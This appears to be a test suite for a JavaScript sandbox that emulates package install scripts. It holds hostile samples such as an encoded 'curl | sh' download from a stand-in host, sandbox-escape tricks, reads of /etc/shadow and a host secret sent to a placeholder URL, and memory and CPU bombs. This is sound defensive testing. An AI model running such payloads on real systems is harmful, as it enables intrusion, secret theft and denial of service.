/**
 * Safety of the sandbox, tested rather than assumed. Each hostile sample tries to reach the host (escape
 * through constructors and prototypes, write a file, spawn a process, open a socket) or to exhaust it
 * (infinite loops, memory bombs, deep recursion, huge strings, trace floods). The host side checks with
 * canaries of its own: a file path in a temp dir that must not exist afterwards, a loopback TCP server that
 * must see no connection, the process's child list that must not grow, a host secret that must not show
 * up in any trace. Every run must also come back within its budget.
 */
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync, existsSync } from 'node:fs';
import { spawnSync } from 'node:child_process';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { emulatePackage, emulatorMode, loadEmulator } from '../../src/emulate/index.js';

const PER_RUN = 250;
/** Slack for a loaded shared machine: the budget is checked between interpreter instructions. */
const SLACK = 4;
/** The watchdog's hard limit for one run (index.ts: a page run's four budgets and a second of grace), plus scheduling slack. */
const HARD = PER_RUN * 4 + 1000 + 500;

let dir: string;
let server: net.Server;
let port = 0;
let connections = 0;
const hostSecret = `host-secret-${Math.random().toString(36).slice(2)}`;
let secretFile: string;

function children(): number {
  // Linux: every child of this process, from /proc (no spawning needed to count spawns).
  try {
    let n = 0;
    for (const t of readdirSync(`/proc/${process.pid}/task`)) n += readFileSync(`/proc/${process.pid}/task/${t}/children`, 'utf8').trim().split(/\s+/).filter(Boolean).length;
    return n;
  } catch {
    return 0;
  }
}

beforeAll(async () => {
  await loadEmulator();
  dir = mkdtempSync(path.join(os.tmpdir(), 'cg-emu-safety-'));
  secretFile = path.join(dir, 'host-secret.txt');
  writeFileSync(secretFile, hostSecret);
  server = net.createServer((s) => {
    connections++;
    s.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  port = (server.address() as net.AddressInfo).port;
}, 60_000);

afterAll(async () => {
  await new Promise<void>((resolve) => server.close(() => resolve()));
  rmSync(dir, { recursive: true, force: true });
});

function hostile(src: string, extra: Record<string, string> = {}, budget = { perFileMs: PER_RUN, totalMs: 3 * PER_RUN * SLACK }, entries = ['index.js']) {
  const files = new Map(Object.entries({ 'package.json': '{"name":"hostile","version":"1.0.0"}', 'index.js': src, ...extra }));
  const t0 = performance.now();
  const r = emulatePackage({ files, manifest: { name: 'hostile' }, entries: entries.map((file) => ({ file, reach: 'install' as const })), budget });
  return { ...r, wall: performance.now() - t0, trace: JSON.stringify(r.effects) };
}

/** The host-side canaries are intact: no file appeared, no socket connected, no child was spawned. */
function hostUntouched(before: number) {
  expect(readdirSync(dir).sort()).toEqual(['host-secret.txt']);
  expect(connections).toBe(0);
  expect(children()).toBe(before);
}

describe("QuickJS's own faults", () => {
  // A run cut off with jobs pending (an endless promise chain) leaves QuickJS freeing a runtime with live objects: its C assertion aborts
  // the instance (caught, the instance replaced). Emscripten's printing of "Aborted(…)" must not reach the
  // operator's terminal in the middle of an install. A process of its own, so its whole stderr is seen.
  it('never print to the stderr of the process that runs the engine', () => {
    const index = path.resolve(import.meta.dirname, '../../dist/emulate/index.js');
    const script = `
      const { emulatePackage, loadEmulator } = await import(${JSON.stringify(pathToFileURL(index).href)});
      await loadEmulator();
      const statuses = [];
      for (const src of ${JSON.stringify(['const f = () => Promise.resolve().then(f); f();'])}) {
        const files = new Map([['package.json', '{"name":"hostile","version":"1.0.0"}'], ['index.js', src]]);
        const r = emulatePackage({ files, manifest: { name: 'hostile' }, entries: [{ file: 'index.js', reach: 'install' }], budget: { perFileMs: 250, totalMs: 3000 } });
        statuses.push(...r.runs.map((run) => run.status));
      }
      console.log(JSON.stringify(statuses));
      // The sandbox thread's output reaches this process asynchronously: give it time to arrive.
      setTimeout(() => process.exit(0), 1000);`;
    const file = path.join(mkdtempSync(path.join(os.tmpdir(), 'cg-emu-stderr-')), 'run.mjs');
    writeFileSync(file, script);
    const res = spawnSync(process.execPath, [file], { encoding: 'utf8', timeout: 120_000 });
    rmSync(path.dirname(file), { recursive: true, force: true });
    expect(res.status, res.stderr).toBe(0);
    expect(JSON.parse(res.stdout.trim().split('\n').pop()!).length).toBeGreaterThan(0);
    expect(res.stderr).not.toMatch(/Aborted|Assertion failed/);
  });
});

describe('a run that leaves the sandbox unusable', () => {
  // Otherwise a package could put one sandbox-breaking file first and its real decoder second.
  it('does not blind the entries after it: they run in a fresh sandbox', () => {
    const r = hostile('const f = () => Promise.resolve().then(f); f();', {
      'b.js': 'const u = Buffer.from("aHR0cDovL2Ryb3AuZXhhbXBsZS5pbnZhbGlkL3g=", "base64").toString(); require("child_process").execSync("curl " + u + " | sh");',
    }, { perFileMs: PER_RUN, totalMs: 6 * PER_RUN * SLACK }, ['index.js', 'b.js']);
    expect(r.runs.find((x) => x.entry === 'index.js')?.status).not.toBe('done');
    expect(r.runs.filter((x) => x.entry === 'b.js').map((x) => x.status)).toContain('done');
    expect(r.runs.some((x) => x.entry === 'b.js' && x.error === 'sandbox unavailable')).toBe(false);
    expect(r.effects.some((e) => e.file === 'b.js' && e.kind === 'exec' && /drop\.example\.invalid/.test(e.evidence))).toBe(true);
    expect(r.partial).toBe(true);
  });
});

describe('escapes', () => {
  it('runs behind the watchdog worker', () => {
    expect(emulatorMode()).toBe('worker');
  });

  it('constructor-chain escapes reach only the fake process', () => {
    const before = children();
    const target = path.join(dir, 'pwned-ctor');
    const r = hostile(`
      const p = this.constructor.constructor('return process')();
      const g = (function () { return this; }).constructor('return this')();
      const viaError = (new Error()).constructor.constructor('return process')();
      const real = [p, g.process, viaError].map((x) => typeof x.binding === 'function' ? x : null);
      for (const q of real) {
        try { q.mainModule && q.mainModule.require('child_process').execSync('touch ${target}'); } catch (e) {}
        try { q.binding('spawn_sync'); } catch (e) {}
        try { q.dlopen && q.dlopen({}, '/tmp/x.node'); } catch (e) {}
      }
      require('child_process').execSync('touch ${target}');
      require('fs').writeFileSync(${JSON.stringify(target)}, 'x');
    `);
    expect(existsSync(target)).toBe(false);
    hostUntouched(before);
    // the attempts are recorded as what they are: commands and writes in the fake machine
    expect(r.effects.some((e) => e.kind === 'exec' && e.command === `touch ${target}`)).toBe(true);
    expect(r.runs.map((x) => `${x.status}${x.error ? `: ${x.error}` : ''}`)).toEqual(['done', 'done', 'done']);
  });

  it('host functions are gone from the global object and cannot read host files', () => {
    const before = children();
    const r = hostile(`
      const names = ['__record', '__readPkgFile', '__compile', 'std', 'os', 'scriptArgs', 'print'].filter((n) => typeof globalThis[n] !== 'undefined');
      let leaked = '';
      for (const p of [${JSON.stringify(secretFile)}, '/proc/self/environ', '/etc/shadow', '../../../../${path.basename(dir)}/host-secret.txt']) {
        try { leaked += require('fs').readFileSync(p, 'utf8'); } catch (e) {}
        try { leaked += require(p); } catch (e) {}
      }
      fetch('https://report.invalid/?n=' + names.join(',') + '&l=' + encodeURIComponent(leaked));
    `);
    const fetches = r.effects.filter((e) => e.kind === 'fetch' || e.kind === 'send');
    expect(fetches).toHaveLength(3);
    for (const f of fetches) expect(f.url).toBe('https://report.invalid/?n=&l=');
    expect(r.trace).not.toContain(hostSecret);
    hostUntouched(before);
  });

  it('prototype tricks on the fake modules stay inside the sandbox', () => {
    const before = children();
    const target = path.join(dir, 'pwned-proto');
    const r = hostile(`
      const fs = require('fs'), cp = require('child_process');
      Object.prototype.shell = '/bin/sh'; Object.prototype.env = { NODE_OPTIONS: '--require ${target}' };
      Array.prototype.join = function () { return 'touch ${target}'; };
      fs.__proto__.writeFileSync = function () {};
      Function.prototype.call = function () { return 1; };
      JSON.stringify = function () { return '{"k":"exec","cmd":"forged"}'; };
      try { cp.execSync.constructor('return require')()('child_process').execSync('touch ${target}'); } catch (e) {}
      cp.spawn('touch', ['${target}']);
      require('net').connect(${'${PORT}'}, '127.0.0.1').write('hello');
      require('http').get('http://127.0.0.1:${'${PORT}'}/');
      fetch('http://127.0.0.1:${'${PORT}'}/x', { method: 'POST', body: 'y' });
    `.replaceAll('${PORT}', String(port)));
    expect(existsSync(target)).toBe(false);
    hostUntouched(before);
    expect(r.trace).not.toContain('forged');
  });

  it('writes, spawns and connections through every API land in the fake machine only', async () => {
    const before = children();
    const t = (n: string) => JSON.stringify(path.join(dir, n));
    hostile(`
      const fs = require('fs'), cp = require('child_process'), net = require('net'), http = require('http'), tls = require('tls'), dgram = require('dgram');
      fs.writeFileSync(${t('a')}, 'x'); fs.appendFileSync(${t('b')}, 'x'); fs.mkdirSync(${t('c')}, { recursive: true });
      fs.createWriteStream(${t('d')}).end('x'); fs.promises.writeFile(${t('e')}, 'x'); fs.copyFileSync(${JSON.stringify(secretFile)}, ${t('f')});
      fs.symlinkSync('/etc/passwd', ${t('g')}); fs.renameSync(${JSON.stringify(secretFile)}, ${t('h')}); fs.rmSync(${JSON.stringify(dir)}, { recursive: true, force: true });
      cp.exec('touch ' + ${t('i')}); cp.spawnSync('sh', ['-c', 'touch ' + ${t('j')}]); cp.execFile('/usr/bin/touch', [${t('k')}]); cp.fork(${t('l')});
      new (require('worker_threads').Worker)('require("fs").writeFileSync(' + JSON.stringify(${t('m')}) + ', "x")', { eval: true });
      net.connect({ port: ${port}, host: '127.0.0.1' }, function () { this.write('x'); });
      tls.connect(${port}, '127.0.0.1');
      http.request({ host: '127.0.0.1', port: ${port}, method: 'POST' }).end('x');
      dgram.createSocket('udp4').send('x', ${port}, '127.0.0.1');
      new WebSocket('ws://127.0.0.1:${port}/');
      require('dns').lookup('localhost', () => {});
    `);
    await new Promise((r) => setTimeout(r, 200));
    hostUntouched(before);
    expect(readFileSync(secretFile, 'utf8')).toBe(hostSecret);
  });
});

describe('exhaustion', () => {
  const cases: Array<[string, string]> = [
    ['an infinite loop', 'for (;;) {}'],
    ['an infinite loop in a timer', 'setInterval(() => { for (;;) {} }, 1)'],
    ['an endless promise chain', 'const f = () => Promise.resolve().then(f); f();'],
    ['a busy wait on the clock', 'const t = Date.now(); while (Date.now() - t < 3600e3) {}'],
    ['a memory bomb', 'const a = []; for (;;) a.push(new Array(1e6).fill(7));'],
    ['a string doubling bomb', 'let s = "x"; for (;;) s += s;'],
    ['a huge string', 'const s = "y".repeat(2 ** 29); require("fs").writeFileSync("/tmp/h", s);'],
    ['deep recursion', 'function f(n) { return f(n + 1) + 1; } f(0);'],
    ['deep recursion through getters', 'const o = {}; Object.defineProperty(o, "x", { get() { return this.x; } }); o.x;'],
    ['a deeply nested JSON.parse', 'JSON.parse("[".repeat(1e6));'],
    ['a catastrophic regex', '/^(a+)+$/.test("a".repeat(40) + "!");'],
    ['a trace flood', 'for (let i = 0; ; i++) require("fs").writeFileSync("/tmp/f" + i, "z".repeat(60000));'],
    ['a recursion that catches its own stack overflow', 'function f() { try { f(); } catch (e) { f(); } } f();'],
    ['a sync exit loop', 'process.on("exit", () => { for (;;) {} }); process.exit(0);'],
  ];
  for (const [name, src] of cases) {
    it(`answers ${name} within budget`, () => {
      const before = children();
      const r = hostile(src);
      expect(r.runs).toHaveLength(3);
      for (const run of r.runs) {
        expect(['done', 'budget', 'error']).toContain(run.status);
        expect(run.ms).toBeLessThan(HARD);
      }
      expect(r.wall).toBeLessThan(3 * HARD);
      hostUntouched(before);
      // the sandbox is still usable after each of them
      const ok = hostile('require("child_process").execSync("echo alive")');
      expect(ok.runs.map((x) => x.status)).toEqual(['done', 'done', 'done']);
    });
  }

  it('lowers long unbroken base64 bodies without the watchdog stopping the sandbox (the lowering is linear in them)', () => {
    // Each body is one 64 KB base64 line: a search for line-wrapped base64 tried at every start inside it was quadratic.
    const r = hostile('const h = require("https"); for (let i = 0; i < 4; i++) h.request({ hostname: "sink.invalid", method: "POST" }).end("QUF" + i + "QUFB".repeat(16383));');
    // (three personas, and the first twice more: its servers answering 503, and the network down: persona.ts Deployment)
    expect(r.runs.map((x) => [x.status, x.error])).toEqual(Array.from({ length: 5 }, () => ['done', undefined]));
    expect(r.runs.map((x) => x.deployment).filter(Boolean)).toEqual(['outage', 'offline']);
    expect(r.effects.filter((e) => e.kind === 'send').length).toBeGreaterThan(0);
  });

  it('survives deep recursion when the host stack is already deep', () => {
    const deep = (n: number): ReturnType<typeof hostile> => (n === 0 ? hostile('function f(n) { return [f(n + 1)]; } f(0);') : deep(n - 1));
    const r = deep(3000);
    expect(r.runs.every((x) => x.ms < HARD)).toBe(true);
    expect(hostile('1').runs.map((x) => x.status)).toEqual(['done', 'done', 'done']);
  });

  it('stops at the package budget and reports the trace as partial', () => {
    const r = hostile('for (;;) {}', {}, { perFileMs: 200, totalMs: 300 });
    expect(r.partial).toBe(true);
    expect(r.runs.map((x) => x.status)).toEqual(['budget', 'budget', 'budget']);
    expect(r.runs[2].error).toBe('package budget exhausted');
    expect(r.wall).toBeLessThan(300 * SLACK + 500);
  });
});
